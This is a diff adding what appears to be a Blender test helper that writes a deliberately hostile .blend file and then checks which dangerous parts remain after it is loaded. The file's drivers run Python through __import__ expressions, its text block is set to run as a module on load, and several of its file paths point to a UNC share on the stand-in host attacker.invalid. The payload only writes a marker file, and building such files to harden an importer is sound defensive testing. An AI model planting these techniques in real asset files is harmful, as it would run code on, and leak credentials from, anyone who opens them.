@@ -1,0 +1,70 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""A .blend file that does what none may: it runs scripts, brings a world, leads to other places."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import bpy
+
+UNC = "//attacker.invalid/share/picture.png"
+
+
+def write_evil(path: Path, trap: Path) -> None:
+    """Write a model that springs the trap, a file that is written, wherever it is looked at."""
+    expression = f"__import__('pathlib').Path({str(trap)!r}).write_text('sprung') or 0.0"
+    mesh = bpy.data.meshes.new("evil")
+    mesh.from_pydata([(0, 0, 0), (1, 0, 0), (0, 1, 0)], [], [(0, 1, 2)])
+    thing = bpy.data.objects.new("evil", mesh)
+    made: set[bpy.types.ID] = {thing, mesh}
+    for owner, name in ((thing, "location"), (mesh, '["depth"]')):
+        if name != "location":
+            owner["depth"] = 0.0
+        driver = owner.driver_add(name, 0) if name == "location" else owner.driver_add(name)
+        driver.driver.expression = expression
+    text = bpy.data.texts.new("startup.py")
+    text.write(f"import pathlib; pathlib.Path({str(trap)!r}).write_text('text')")
+    text.use_module = True
+    thing["script"] = text
+    cache = thing.modifiers.new("cache", "MESH_CACHE")
+    cache.filepath = UNC
+    image = bpy.data.images.new("evil", 8, 8)
+    image.source, image.filepath_raw = "FILE", UNC
+    material = bpy.data.materials.new("evil")
+    if material.node_tree is None:  # before 5.0
+        material.use_nodes = True
+    node = material.node_tree.nodes.new("ShaderNodeTexImage")
+    node.image = image
+    script = material.node_tree.nodes.new("ShaderNodeScript")
+    script.mode, script.filepath = "EXTERNAL", UNC
+    mesh.materials.append(material)
+    world = bpy.data.worlds.new("evil")
+    made |= {text, image, material, world}
+    if bpy.app.version < (5, 2):  # which ends when a scene is written
+        scene = bpy.data.scenes.new("evil")
+        scene.world, thing["scene"] = world, scene
+        made.add(scene)
+    bpy.data.libraries.write(str(path), made, fake_user=True)
+    for owner in (thing, mesh):
+        owner.animation_data_clear()
+    bpy.data.batch_remove(made)
+    trap.unlink(missing_ok=True)
+
+
+def traces() -> list[str]:
+    """Return what of it is in the open file."""
+    blocks = (*bpy.data.texts, *bpy.data.worlds, *bpy.data.scenes, *bpy.data.images,
+              *bpy.data.materials, *bpy.data.meshes, *bpy.data.objects)  # fmt: skip
+    found = [one.name for one in blocks if one.name.startswith(("evil", "startup.py"))]
+    found += [one.filepath for one in bpy.data.images if "attacker" in one.filepath]
+    found += [one.filepath for one in bpy.data.libraries]
+    for one in bpy.data.objects:
+        found += [f"driver of {one.name}"] * bool(one.animation_data and one.animation_data.drivers)
+        found += [f"modifier of {one.name}"] * len(one.modifiers)
+    return found
+
+
+def look_at_all() -> None:
+    """Have everything in the scene evaluated, which runs drivers."""
+    bpy.context.view_layer.update()
+    bpy.context.evaluated_depsgraph_get().update()
